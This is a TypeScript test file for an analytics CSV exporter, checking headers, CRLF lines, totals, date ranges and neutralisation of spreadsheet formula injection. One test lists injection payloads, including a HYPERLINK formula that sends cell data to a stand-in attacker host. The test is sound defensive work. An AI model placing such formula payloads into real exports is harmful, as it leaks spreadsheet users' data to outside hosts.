import { describe, expect, it } from "@atrium/test-kit";

import { lastDays, toCsv, totals } from "./csv.ts";

const row = (day: string, leads: number, bookedLeads: number) => ({
  day,
  leads,
  messagesIn: 1,
  messagesOut: 2,
  calls: 0,
  bookings: 1,
  bookedLeads,
  conversion: leads === 0 ? 0 : bookedLeads / leads,
});

describe("analytics CSV", () => {
  it("writes a header and one CRLF line per day, rounding the conversion", () => {
    expect(toCsv([row("2026-03-01", 3, 2)])).toBe(
      "day,leads,messagesIn,messagesOut,calls,bookings,bookedLeads,conversion\r\n2026-03-01,3,1,2,0,1,2,0.6667\r\n",
    );
  });
  it("neutralises a text cell a spreadsheet would run (decision 0026); computed numbers stay numbers", () => {
    for (const payload of [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+1+1",
      "-1+1",
      "@SUM(1,1)",
      "\t=1+1",
      "\r=1+1",
      "-5",
      "+15550102030",
    ]) {
      const [, line] = toCsv([row(payload, 1, 0)]).split("\r\n");
      expect(line).toBe(`"'${payload.replace(/"/g, '""')}",1,1,2,0,1,0,0`);
    }
    expect(toCsv([{ ...row("2026-03-01", 1, 0), calls: -5 }]).split("\r\n")[1]).toBe("2026-03-01,1,1,2,-5,1,0,0");
  });
  it("totals the range with the conversion over all its leads", () => {
    expect(totals([row("a", 3, 2), row("b", 1, 0)])).toMatchObject({ leads: 4, messagesOut: 4, conversion: 0.5 });
  });
  it("computes the last N UTC days", () => {
    expect(lastDays(7, new Date("2026-03-05T23:30:00Z"))).toEqual({ from: "2026-02-27", to: "2026-03-05" });
  });
});
